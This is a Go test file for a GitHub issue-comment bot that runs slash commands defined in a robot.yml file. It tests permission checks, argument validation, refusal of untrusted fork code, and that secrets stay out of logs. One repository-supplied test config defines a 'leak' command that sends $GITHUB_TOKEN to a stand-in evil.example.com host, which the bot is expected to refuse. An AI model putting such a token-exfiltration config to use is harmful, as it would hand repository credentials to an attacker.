package function

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/drone/drone-go/drone"
	"github.com/fanux/robot/issue"
)

const robotYML = `
use: [help, run]
needs: { run: maintain }
commands:
  release:
    about: publish the offline package
    args: "<version>"
    check: { version: 'v\d+\.\d+\.\d+' }
    needs: maintain
    examples: /release v1.17.3
    uses: drone_promote
    with: { build: latest, target: test, params: { VERSION: "{version}" } }
  dev:
    args: "<build>"
    uses: drone_promote
    with: { build: "{build}", target: dev }
  e2e:
    args: "[suite=dev]"
    uses: workflow
    with: { file: deploy.yml, inputs: { target: "{suite}" } }
  notify:
    args: "<text…>"
    needs: read
    uses: http
    with: { url: "HOOK/x/{issue.number}?by={user}", private: true, secret: "$NOTIFY_SECRET", headers: { Authorization: "Bearer $NOTIFY_TOKEN" }, body: { text: "{text}", by: "{user}", n: 1 }, reply: "Told [them]({answer.url})." }
  accept:
    needs: triage
    uses: label
    with: { add: [accepted], assign: "{user}", reply: "Thank you, {user}." }
  tell: { uses: comment, with: { text: "Read the [guide](https://example.com), {user}." } }
  again: { uses: run, with: { args: deploy, params: { target: dev } } }
  ask:
    args: "[version={form.version}]"
    uses: dispatch
    with: { event: asked, payload: { version: "{version}" } }
  ship:
    uses: workflow
    with: { file: deploy.yml, inputs: { target: dev } }
    bots: ["release-please[bot]"]
aliases: { publish: release }
targets: { "DEV*": { branches: [release] } }
repos: ["acme/*"]
in_repo: { allow: [workflow, http] }
`

// configured is a world with a robot.yml, and what was called at its hook.
func configured(t *testing.T, text string, more ...string) (*world, *[]string) {
	t.Helper()
	var called []string
	hook := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		called = append(called, r.Method+" "+r.URL.String()+" "+string(body)+" "+r.Header.Get("Authorization"))
		io.WriteString(w, `{"url":"https://hooks.example.com/1"}`)
	}))
	t.Cleanup(hook.Close)
	file := filepath.Join(t.TempDir(), "robot.yml")
	if err := os.WriteFile(file, []byte(strings.ReplaceAll(text, "HOOK", hook.URL)), 0o600); err != nil {
		t.Fatal(err)
	}
	w := newWorld(t, append([]string{"ROBOT_CONFIG=" + file, "NOTIFY_SECRET=notify-secret-0123456789", "NOTIFY_TOKEN=notify-token-0123456789"}, more...)...)
	w.repo.Label(17, "accepted").Grant("carol", "maintain")
	w.file = file
	return w, &called
}

// say comments, and is the answer's states and the last reply.
func (w *world) say(t *testing.T, number int, login, text string) (states, reply string) {
	t.Helper()
	before := len(w.repo.Issue(number).By("sealrobot"))
	status, body := w.post(t, w.repo.Comment(number, login, text))
	var outcome issue.Outcome
	if status == 200 && json.Unmarshal([]byte(body), &outcome) != nil || status > 202 {
		t.Fatalf("%s: %d %s", text, status, body)
	}
	for _, c := range outcome.Commands {
		states += string(c.State) + " "
	}
	if all := w.repo.Issue(number).By("sealrobot"); len(all) > before {
		reply = all[before].Body
	}
	return strings.TrimSpace(states), reply
}

func TestConfiguredCommands(t *testing.T) {
	w, called := configured(t, robotYML)
	w.ci.OnStart(func(slug string, number int64) { w.ci.Finish(slug, number, drone.StatusPassing) }) // a target takes one at a time
	for _, row := range []struct{ by, text, states, reply string }{
		{"carol", "/release v1.17.3", "ran", "promotes build [42]("},
		{"carol", "/publish v1.17.3", "ran", "promotes build [42]("},
		{"carol", "/release 1.17.3", "refused", "`1.17.3` is no `version`: it has to look like `v\\d+\\.\\d+\\.\\d+`. Usage: `/release <version>`, for example `/release v1.17.3`."},
		{"carol", "/release", "refused", "`<version>` is missing."},
		{"carol", "/release v1.2.3 x=y", "refused", "`/release` takes no `key=value`."},
		{"alice", "/release v1.17.3", "denied", "needs **maintain** here"},
		{"alice", "/run deploy target=dev", "denied", "needs **maintain** here"},
		{"alice", "/dev 42", "refused", "only builds of `release`"},
		{"alice", "/e2e", "ran", "with `target=dev`"},
		{"alice", "/e2e prod", "ran", "with `target=prod`"},
		{"alice", "/e2e other", "refused", "not `other`"},
		{"bob", "/notify hello {user} `x`", "refused", "not plain text"},
		{"bob", "/notify hello {user} & more", "ran", "Told [them](<https://hooks.example.com/1>)."},
		{"alice", "/accept", "ran", "Thank you, @alice."},
		{"alice", "/tell", "ran", "Read the [guide](https://example.com), @alice."},
		{"alice", "/again", "ran", "with `target=dev`"},
		{"alice", "/ask v2", "ran", "Sent `asked`"},
		{"alice", "/ask", "refused", "has no heading `version`"},
		{"alice", "/promote 42 dev", "", ""},
		{"release-please[bot]", "/ship", "refused", "asks for `/ship`"},
		{"release-please[bot]", "/e2e", "", ""},
		{"alice", "/confirm", "ran", "with `target=dev`"},
		{"alice", "/help", "ran", "| `/release <version>` | publish the offline package | needs maintain |"},
		{"alice", "/release ?", "ran", "For example:"},
	} {
		states, reply := w.say(t, 17, row.by, row.text)
		if states != row.states || !strings.Contains(reply, row.reply) || row.reply == "" && reply != "" {
			t.Errorf("%s: %s: %s\n%s\nwant %s: %s", row.by, row.text, states, reply, row.states, row.reply)
		}
	}
	if len(*called) != 1 || (*called)[0] != `POST /x/17?by=bob {"by":"bob","n":1,"text":"hello {user} & more"} Bearer notify-token-0123456789` {
		t.Errorf("%q", *called)
	}
	if log := w.logs.String(); strings.Contains(log, "notify-secret") || strings.Contains(log, "notify-token") {
		t.Errorf("the log shows a secret:\n%s", log)
	}
}

func TestRepositoriesThatAreNotServed(t *testing.T) {
	w, _ := configured(t, strings.Replace(robotYML, `repos: ["acme/*"]`, `repos: ["ACME/other", "x/*"]`, 1))
	w.gh.Forget()
	if status, _ := w.post(t, w.repo.Comment(17, "alice", "/e2e")); status != 202 || len(w.gh.Calls()) != 0 {
		t.Errorf("%d %v", status, w.gh.Calls())
	}
}

// ofPull is robotYML with an e2e that wants a pull request.
var ofPull = strings.Replace(robotYML, `file: deploy.yml, inputs: { target: "{suite}" }`, `file: pr.yml, inputs: { note: "{pr.head.sha}", target: "{suite}" }`, 1)

const pullWorkflow = "on:\n  workflow_dispatch:\n    inputs: {note: {}, target: {}}\n"

func TestFormAndPullRequest(t *testing.T) {
	w, _ := configured(t, ofPull)
	w.repo.File(".github/workflows/pr.yml", pullWorkflow).Workflow("pr.yml", "", "note", "target")
	w.repo.Open(30, "bob", "Release", "### Version\r\n\r\nv3.1.0\r\n\r\n### Notes\r\n\r\n_No response_\r\n")
	if states, reply := w.say(t, 30, "alice", "/ask"); states != "ran" || w.repo.Dispatched()[0].Payload["version"] != "v3.1.0" {
		t.Errorf("%s %s %+v", states, reply, w.repo.Dispatched())
	}
	if states, reply := w.say(t, 17, "alice", "/e2e"); states != "refused" || !strings.Contains(reply, "is for pull requests, and this is an issue") {
		t.Errorf("%s %s", states, reply)
	}
	if states, reply := w.say(t, 18, "alice", "/e2e"); states != "ran" || !strings.Contains(reply, w.repo.Head(18)) {
		t.Errorf("%s %s", states, reply)
	}
	w.repo.FromFork(18, "mallory/widgets")
	if states, reply := w.say(t, 18, "alice", "/e2e"); states != "refused" || !strings.Contains(reply, "is from a fork, whose code this repository has not merged") {
		t.Errorf("%s %s", states, reply)
	}
}

// TestForksCodeIsNamed: it runs where the file lets it, and the commenter names the commit.
func TestForksCodeIsNamed(t *testing.T) {
	w, _ := configured(t, strings.Replace(ofPull, "  e2e:\n", "  e2e:\n    forks: true\n", 1))
	w.repo.File(".github/workflows/pr.yml", pullWorkflow).Workflow("pr.yml", "", "note", "target")
	w.repo.FromFork(18, "mallory/widgets")
	head := w.repo.Head(18)
	for _, row := range []struct{ text, states, reply string }{
		{"/e2e", "refused", "Look at its newest commit, and add it"},
		{"/e2e sha=" + head[:6], "refused", "is no commit"},
		{"/e2e sha=0000000", "refused", "is not the newest commit of this pull request any more"},
		{"/e2e sha=" + head[:7], "ran", head},
		{"/e2e other=1", "refused", "takes no"},
	} {
		states, reply := w.say(t, 18, "alice", row.text)
		if states != row.states || !strings.Contains(reply, row.reply) {
			t.Errorf("%s: %s\n%s", row.text, states, reply)
		}
	}
	w.repo.Push(18)
	if states, reply := w.say(t, 18, "alice", "/e2e sha="+head[:7]); states != "refused" || strings.Contains(reply, w.repo.Head(18)[:7]) {
		t.Errorf("pushed meanwhile: %s %s", states, reply)
	}
}

func TestRepositorysOwnCommands(t *testing.T) {
	w, _ := configured(t, robotYML)
	const name = ".github/robot.yml"
	if states, _ := w.say(t, 17, "alice", "/deploy dev"); states != "" {
		t.Errorf("no file: %s", states)
	}
	if calls := w.gh.Calls(); !strings.Contains(calls[len(calls)-1].Path, "/contents/.github/robot.yml?ref=main") {
		t.Errorf("%v", calls)
	}
	w.gh.Forget()
	if states, _ := w.say(t, 17, "alice", "/deploy dev"); states != "" || len(w.gh.Calls()) != 0 {
		t.Errorf("a missing file is remembered: %v", w.gh.Calls())
	}

	w.repo.File(name, `commands:
  deploy: { args: "<target>", uses: workflow, with: { file: deploy.yml, inputs: { target: "{target}" } } }
  low: { needs: read, uses: workflow, with: { file: deploy.yml } }
  leak: { uses: http, with: { url: "https://evil.example.com/", secret: "$GITHUB_TOKEN" } }
  e2e: { uses: workflow, with: { file: evil.yml } }
  pro: { uses: drone_promote, with: { target: prod } }
aliases: { d: deploy, run: deploy }
lang: zh
`)
	w.url = w.serve(t, "ROBOT_CONFIG="+w.file, "NOTIFY_SECRET=x", "NOTIFY_TOKEN=y")
	for _, row := range []struct{ text, states, reply string }{
		{"/deploy dev", "ran", "启动运行"},
		{"/d dev", "ran", "启动运行"},
		{"/low", "refused", "`.github/robot.yml` 第 3 行："},
		{"/leak", "refused", "`.github/robot.yml` 第 4 行："},
		{"/e2e", "ran", "`deploy.yml`"},
		{"/pro", "refused", "`.github/robot.yml` 第 6 行："},
		{"/help", "ran", "/deploy <target>"},
	} {
		states, reply := w.say(t, 17, "alice", row.text)
		if states != row.states || !strings.Contains(reply, row.reply) {
			t.Errorf("%s: %s\n%s\nwant %s %s", row.text, states, reply, row.states, row.reply)
		}
	}

	w.repo.File(name, "commands:\n  deploy: { uses: workflow, with: [\n  other: {}\n")
	w.url = w.serve(t, "ROBOT_CONFIG="+w.file, "NOTIFY_SECRET=x", "NOTIFY_TOKEN=y")
	if states, reply := w.say(t, 17, "alice", "/deploy dev"); states != "refused" || !strings.Contains(reply, "`.github/robot.yml` line ") {
		t.Errorf("broken: %s %s", states, reply)
	}
	if states, _ := w.say(t, 17, "alice", "/e2e"); states != "ran" {
		t.Errorf("beside a broken file: %s", states)
	}
}
